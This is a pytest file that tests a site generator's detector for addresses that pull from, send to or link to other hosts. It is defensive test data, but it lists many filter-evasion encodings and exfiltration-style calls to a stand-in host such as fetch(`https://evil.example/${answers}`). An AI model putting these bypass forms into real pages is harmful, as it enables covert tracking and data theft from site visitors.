"""Addresses of other hosts, however they are written: all that a browser follows is found, and no more."""

import pytest

from sitegen.check.origins.addresses import own_of
from sitegen.check.origins.script import addresses_in as addresses_in_script
from sitegen.check.origins.style import addresses_in
from sitegen.check.origins.tags import Way, in_script, ways_out
from sitegen.check.tree import tree_of
from sitegen.html_pieces import pieces_of

OWN = own_of("https://example.org/guide")

LOADED = (
    '<img src="https://evil.example/a.png">',
    '<img src="HTTPS://EVIL.example/a.png">',
    '<img src="//evil.example/a.png">',
    r'<img src="\\evil.example/a.png">',
    r'<img src="/\evil.example/a.png">',
    '<img src="https:evil.example/a.png">',
    '<img src="https:/\\evil.example/a.png">',
    '<img src=" \t//evil.example/a.png">',
    '<img src="/\n/evil.example/a.png">',
    '<img src="&#47;&#47;evil.example/a.png">',
    '<img src="&#x68;ttps&colon;//evil.example/a.png">',
    '<img src="https://example.org@evil.example/a.png">',
    "<img src=//evil.example/a.png>",
    '<img srcset="a.png 1x, https://evil.example/b.png 2x">',
    '<source srcset="//evil.example/a.webp">',
    '<link rel="stylesheet" href="https://evil.example/a.css">',
    '<link rel="alternate stylesheet" href="https://evil.example/a.css">',
    '<link rel="preconnect" href="https://evil.example">',
    '<link rel="dns-prefetch" href="//evil.example">',
    '<link rel="preload" as="image" imagesrcset="//evil.example/a.png 1x">',
    '<script src="https://evil.example/a.js"></script>',
    '<iframe src="https://evil.example/"></iframe>',
    '<iframe srcdoc="<img src=&quot;//evil.example/&quot;>"></iframe>',
    '<object data="https://evil.example/"></object>',
    '<embed src="https://evil.example/">',
    '<video poster="https://evil.example/a.png"></video>',
    '<video><track src="//evil.example/a.vtt"></video>',
    '<a href="/" ping="/a https://evil.example/">x</a>',
    '<body background="https://evil.example/a.png">',
    '<html manifest="https://evil.example/a">',
    '<base href="https://evil.example/">',
    '<meta http-equiv="Refresh" content="0; url=https://evil.example/">',
    "<meta http-equiv=refresh content=\"0;URL='//evil.example/'\">",
    '<p style="background: url(https://evil.example/a.png)">x</p>',
    r'<p style="background: \75 rl(//evil.example/a.png)">x</p>',
    "<style>@import '//evil.example/a.css';</style>",
    "<script>fetch('https://evil.example/')</script>",
    '<script type="module">import "https://evil.example/a.mjs"</script>',
    '<script type="importmap">{"imports": {"a": "https://evil.example/a.mjs"}}</script>',
    '<svg><image href="https://evil.example/a.png"/></svg>',
    '<svg><image xlink:href="//evil.example/a.png"/></svg>',
    '<svg><use href="https://evil.example/a.svg#b"/></svg>',
    '<svg><feImage href="https://evil.example/a.png"/></svg>',
    '<svg><rect fill="url(https://evil.example/a.svg#b)"/></svg>',
    '<svg><animate attributeName="href" values="a;https://evil.example/"/></svg>',
    '<svg><set attributeName="href" to="https://evil.example/"/></svg>',
    '<div data-src="https://evil.example/a.js"></div>',
    "<urlset><url><loc>https://evil.example/</loc></url></urlset>",
    "<feed><icon>https://evil.example/a.png</icon></feed>",
    '<feed><content type="html">&lt;img src="//evil.example/a.png"&gt;</content></feed>',
    '<feed><link rel="enclosure" href="https://evil.example/a.mp3"/></feed>',
)
SENT = (
    '<form action="https://evil.example/"></form>',
    '<button formaction="//evil.example/">x</button>',
)
LINKED = (
    '<a href="https://other.example/">x</a>',
    '<a href="https://other.example/" rel="noopener">x</a>',
    '<a href="https://other.example/" rel="noreferrer">x</a>',
    '<area href="//other.example/">',
    '<svg><a xlink:href="https://other.example/">x</a></svg>',
)
HARMLESS = (
    '<img src="https://example.org/guide/a.png">',
    '<img src="/a//b.png">',
    '<img src="a.png" alt="https://other.example/ is a picture">',
    '<img src="data:image/png;base64,//AA">',
    '<a href="https://other.example/" rel="external noopener noreferrer">x</a>',
    '<a href="tel:988">x</a><a href="mailto:a@b.example">x</a>',
    '<link rel="canonical" href="https://example.com/">',
    '<link rel="alternate" type="application/atom+xml" href="https://feeds.example/">',
    '<meta property="og:image" content="https://cards.example/a.png">',
    '<meta http-equiv="refresh" content="0; url=https://example.org/guide/">',
    '<blockquote cite="https://other.example/">x</blockquote>',
    '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"></svg>',
    "<p>Look at https://other.example/.</p>",
    "<style>/* https://other.example/ */ @namespace url(http://www.w3.org/1999/xhtml);</style>",
    '<script type="application/ld+json">{"@context": "https://schema.org"}</script>',
    "<script>// https://other.example/\nconst a = 'see https://other.example/';</script>",
    '<feed xmlns="http://www.w3.org/2005/Atom"><link rel="self" href="https://example.org/f"/></feed>',
    '<feed><entry><link href="https://other.example/"/></entry></feed>',
)


@pytest.mark.parametrize("html", LOADED)
def test_what_is_loaded_from_elsewhere_is_found(html: str) -> None:
    assert {way.way for way in ways_out(tree_of(pieces_of(html)), OWN)} == {Way.LOADED}


@pytest.mark.parametrize("html", SENT)
def test_what_is_sent_elsewhere_is_found(html: str) -> None:
    assert [way.way for way in ways_out(tree_of(pieces_of(html)), OWN)] == [Way.SENT]


@pytest.mark.parametrize("html", LINKED)
def test_a_link_that_tells_too_much_is_found(html: str) -> None:
    assert [way.way for way in ways_out(tree_of(pieces_of(html)), OWN)] == [Way.LINKED]


@pytest.mark.parametrize("html", HARMLESS)
def test_what_leads_nowhere_else_is_not_found(html: str) -> None:
    assert list(ways_out(tree_of(pieces_of(html)), OWN)) == []


@pytest.mark.parametrize(
    ("sheet", "addresses"),
    [
        ("a { background: url(b.png) }", ["b.png"]),
        ('a { background: URL( "b.png" ) }', ["b.png"]),
        (r"a { background: u\72l(b\.png) }", ["b.png"]),
        ('a { background: image-set("b.png" 1x, url(c.png) 2x) }', ["b.png", "c.png"]),
        ('@font-face { src: src("b.woff2"), url(c.woff2) format("woff2") }', ["b.woff2", "c.woff2"]),
        ('@import "b.css" screen;', ["b.css"]),
        ("@import url(b.css);", ["b.css"]),
        (r'@\69mport "b.css";', ["b.css"]),
        ('@import "b.css"; a { content: "c" }', ["b.css"]),
        ('a { content: "url(b.png)" } /* url(c.png) */', []),
        ("a { width: calc((1px + 2px) * 3) } b { background: url(c.png) }", ["c.png"]),
        ("a { background: url( b.png", []),
        ("a { --b: url(c.png) }", ["c.png"]),
    ],
)
def test_addresses_in_style_sheets(sheet: str, addresses: list[str]) -> None:
    assert [read for _, read in addresses_in(sheet)] == addresses


@pytest.mark.parametrize(
    "script",
    [
        'fetch("https://evil.example/")',
        "fetch('//evil.example/')",
        "fetch(`https://evil.example/${answers}`)",
        r'fetch("\x68ttps://evil.example/")',
        r'fetch("\u{2f}\u002fevil.example/")',
        r'fetch("\/\/evil.example/")',
        'new WebSocket("wss://evil.example/")',
        'export * from "https://evil.example/a.mjs"',
        'if (a) /"/.test(b);\n"https://evil.example/"',
    ],
)
def test_addresses_in_scripts_are_found(script: str) -> None:
    assert [found.host for found in in_script(script, OWN)] == ["evil.example"]


@pytest.mark.parametrize(
    "script",
    [
        "// fetch('https://evil.example/')",
        "/* Copyright, see https://evil.example/ */ const a = 1;",
        'document.createElementNS("http://www.w3.org/2000/svg", "svg")',
        'location.protocol === "https:"',
        'const a = "//";',
        "const a = b / c; const d = e / f;",
    ],
)
def test_what_a_script_does_not_load_is_not_found(script: str) -> None:
    assert list(in_script(script, OWN)) == []


@pytest.mark.parametrize("text", ["\\", "'\\u{110000}'", "url(\\", "\\110000 ", '"\\ud800//x"', "`" * 50])
def test_half_an_escape_is_no_fault_of_ours(text: str) -> None:
    list(addresses_in(text))
    list(addresses_in_script(f"'\\' {text}"))
